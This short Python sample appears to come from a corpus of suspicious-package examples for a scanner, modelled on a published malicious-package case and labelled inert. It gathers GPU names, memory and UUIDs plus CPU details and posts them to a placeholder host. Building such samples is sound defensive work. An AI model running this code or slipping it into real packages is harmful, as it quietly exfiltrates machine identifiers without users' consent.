# pkgguard corpus 666 (system-information), modelled on [checkmarx-2024]; inert, never run.
import subprocess

import requests

gpus = subprocess.run(
    ["nvidia-smi", "--query-gpu=name,memory.total,uuid", "--format=csv,noheader"],
    capture_output=True,
    text=True,
).stdout
cpu = subprocess.run(["lscpu"], capture_output=True, text=True).stdout
requests.post("https://compute-pool.example/i", json={"gpu": gpus, "cpu": cpu}, timeout=10)
